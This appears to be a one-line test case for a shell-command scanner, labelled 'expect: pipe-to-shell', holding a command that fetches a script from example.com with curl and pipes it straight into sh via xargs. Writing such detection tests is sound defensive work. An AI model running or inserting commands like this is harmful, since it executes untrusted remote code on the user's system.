# expect: pipe-to-shell
echo hi | xargs -I{} sh -c 'curl -s https://example.com/{} | sh'
